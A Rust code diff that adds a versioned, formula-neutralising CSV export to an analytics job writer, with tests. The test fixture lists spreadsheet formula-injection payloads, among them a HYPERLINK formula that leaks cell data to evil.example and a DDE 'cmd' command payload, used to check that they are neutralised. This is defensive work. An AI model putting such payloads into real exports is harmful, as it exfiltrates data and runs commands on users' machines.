@@ -31,16 +31,59 @@ type Buckets = Vec<(i64, Vec<Option<f64>>)>;
 /// The output formats of results.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum Format {
-    Csv,
+    Csv(CsvFormat),
     Json,
     /// Time labels in this zone.
     Html(Tz),
 }
 
+/// How a job's CSV writes text cells. The audit log holds the SHA-256 of the CSV a job
+/// completed with, so a job keeps its format for good (`analytics_jobs.csv_format`):
+/// results made before a change still download byte for byte and verify.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum CsvFormat {
+    /// Version 1: text cells as they are (jobs completed before issue #33).
+    Plain,
+    /// Version 2: text cells go through [`crate::report::text_cell`], so none starts a
+    /// spreadsheet formula.
+    Neutralised,
+}
+
+impl CsvFormat {
+    /// The format new jobs complete with.
+    pub const CURRENT: CsvFormat = CsvFormat::Neutralised;
+
+    /// The number stored with the job.
+    pub fn version(self) -> i64 {
+        match self {
+            CsvFormat::Plain => 1,
+            CsvFormat::Neutralised => 2,
+        }
+    }
+
+    /// The format of a stored version; `None` for one this build does not know (a job
+    /// completed by a newer wfmd).
+    pub fn of_version(version: i64) -> Option<CsvFormat> {
+        match version {
+            1 => Some(CsvFormat::Plain),
+            2 => Some(CsvFormat::Neutralised),
+            _ => None,
+        }
+    }
+
+    /// A text cell (a dimension's name or value, a metric), quoted when needed.
+    fn text(self, text: &str) -> String {
+        match self {
+            CsvFormat::Plain => field(text),
+            CsvFormat::Neutralised => field(&crate::report::text_cell(text)),
+        }
+    }
+}
+
 impl Format {
     pub fn content_type(self) -> &'static str {
         match self {
-            Format::Csv => "text/csv; charset=utf-8",
+            Format::Csv(_) => "text/csv; charset=utf-8",
             Format::Json => "application/json",
             Format::Html(_) => "text/html; charset=utf-8",
         }
@@ -94,9 +137,9 @@ pub async fn write(
     let settings = spec.trend();
     let metrics: Vec<String> = spec.metrics.iter().map(ToString::to_string).collect();
     match format {
-        Format::Csv => {
+        Format::Csv(csv) => {
             let mut header = vec!["bucket".to_owned()];
-            header.extend(spec.dimensions.iter().map(|d| field(d)));
+            header.extend(spec.dimensions.iter().map(|d| csv.text(d)));
             header.extend(
                 [
                     "metric",
@@ -159,16 +202,16 @@ pub async fn write(
                     .collect();
                 let analysis = trend::analyse(&points, &settings);
                 match format {
-                    Format::Csv => {
+                    Format::Csv(csv) => {
                         let dim_fields: Vec<String> = spec
                             .dimensions
                             .iter()
-                            .map(|d| field(dims.get(d).map_or("", String::as_str)))
+                            .map(|d| csv.text(dims.get(d).map_or("", String::as_str)))
                             .collect();
                         for (point, figures) in points.iter().zip(&analysis.points) {
                             let mut line = vec![crate::time::rfc3339(point.at)];
                             line.extend(dim_fields.iter().cloned());
-                            line.push(field(metric));
+                            line.push(csv.text(metric));
                             line.push(number(point.value.is_finite().then_some(point.value)));
                             line.push(number(figures.moving_average));
                             line.push(
@@ -263,7 +306,7 @@ pub async fn write(
     match format {
         Format::Json => out.extend(b"]}\n"),
         Format::Html(_) => out.extend(b"</body></html>\n"),
-        Format::Csv => {}
+        Format::Csv(_) => {}
     }
     if !out.is_empty() {
         sink.send(out).await?;
@@ -423,8 +466,119 @@ fn round(value: f64) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::domain::trend::Settings;
+    use crate::domain::trend::{Seasonality, Settings};
+    use crate::engine::analytics::spec::{Bucket, Source};
+    use crate::store::analytics::NewResult;
+    use crate::store::testing::temp_store;
+    use crate::store::to_ms;
     use chrono::{TimeDelta, TimeZone, Utc};
+
+    /// Agent ids a spreadsheet would run as formulas.
+    const FORMULA_IDS: [&str; 6] = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        "+1+cmd|' /C calc'!A0",
+        "@SUM(1)",
+        "-2+3",
+        "\tSUM(1)",
+        "\r=1+1",
+    ];
+
+    #[derive(Default)]
+    struct Bytes(Vec<u8>);
+
+    impl Sink for Bytes {
+        async fn send(&mut self, chunk: Vec<u8>) -> std::io::Result<()> {
+            self.0.extend(chunk);
+            Ok(())
+        }
+    }
+
+    /// Stores job `aq_1`: one bucket of `transitions:sum` per agent of `ids`, each -2.5
+    /// (a negative figure, which must stay a number).
+    async fn job_over_agents(store: &Store, ids: &[&str]) -> QuerySpec {
+        let from = Utc.with_ymd_and_hms(2026, 11, 2, 0, 0, 0).unwrap();
+        let spec = QuerySpec {
+            source: Source::History,
+            metrics: vec!["transitions:sum".parse().unwrap()],
+            dimensions: vec!["agent".into()],
+            filters: Vec::new(),
+            from,
+            to: from + TimeDelta::hours(1),
+            bucket: Bucket::Hour,
+            window: 3,
+            z: 2.0,
+            seasonality: Seasonality::None,
+        };
+        let rows: Vec<NewResult> = ids
+            .iter()
+            .map(|id| NewResult {
+                series: json!({ "agent": id }).to_string(),
+                bucket: to_ms(from),
+                vals: "[-2.5]".into(),
+            })
+            .collect();
+        let mut tx = store.begin_write().await.unwrap();
+        let text = serde_json::to_string(&spec).unwrap();
+        stored::insert_job(&mut tx, "aq_1", "history", &text, "test", 0)
+            .await
+            .unwrap();
+        assert_eq!(
+            stored::store_page(&mut tx, "aq_1", &rows).await.unwrap(),
+            None
+        );
+        tx.commit().await.unwrap();
+        spec
+    }
+
+    async fn csv(store: &Store, spec: &QuerySpec, csv: CsvFormat) -> String {
+        let mut out = Bytes::default();
+        write(store, "aq_1", spec, Format::Csv(csv), &mut out)
+            .await
+            .unwrap();
+        String::from_utf8(out.0).unwrap()
+    }
+
+    #[tokio::test]
+    async fn csv_text_cells_are_neutralised_and_figures_stay_numbers() {
+        let (store, _dir) = temp_store().await;
+        let mut ids = FORMULA_IDS.to_vec();
+        ids.push("u_001");
+        let spec = job_over_agents(&store, &ids).await;
+        let text = csv(&store, &spec, CsvFormat::CURRENT).await;
+        let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(text.as_bytes())
+            .records()
+            .map(Result::unwrap)
+            .collect();
+        assert_eq!(rows.len(), ids.len(), "{text}");
+        let agents: Vec<&str> = rows.iter().map(|row| &row[1]).collect();
+        for id in FORMULA_IDS {
+            assert!(
+                agents.contains(&format!("'{id}").as_str()),
+                "{id:?} not neutralised: {agents:?}"
+            );
+        }
+        assert!(agents.contains(&"u_001"), "a plain id is unchanged");
+        assert!(
+            rows.iter().all(|row| &row[3] == "-2.5"),
+            "a negative figure stays a number: {text}"
+        );
+    }
+
+    #[tokio::test]
+    async fn the_plain_format_is_byte_for_byte_the_csv_older_jobs_were_hashed_over() {
+        let (store, _dir) = temp_store().await;
+        let spec = job_over_agents(&store, &["@SUM(1)", "=1+1,x"]).await;
+        assert_eq!(
+            csv(&store, &spec, CsvFormat::Plain).await,
+            "bucket,agent,metric,value,moving_average,direction,z_score,anomaly\n\
+             2026-11-02T00:00:00.000Z,\"=1+1,x\",transitions:sum,-2.5,,,,\n\
+             2026-11-02T00:00:00.000Z,@SUM(1),transitions:sum,-2.5,,,,\n"
+        );
+        for version in [1, 2] {
+            assert_eq!(CsvFormat::of_version(version).unwrap().version(), version);
+        }
+        assert_eq!(CsvFormat::of_version(3), None);
+    }
 
     #[test]
     fn html_chart_marks_and_lists_the_spike_with_its_z_score_in_the_chosen_zone() {
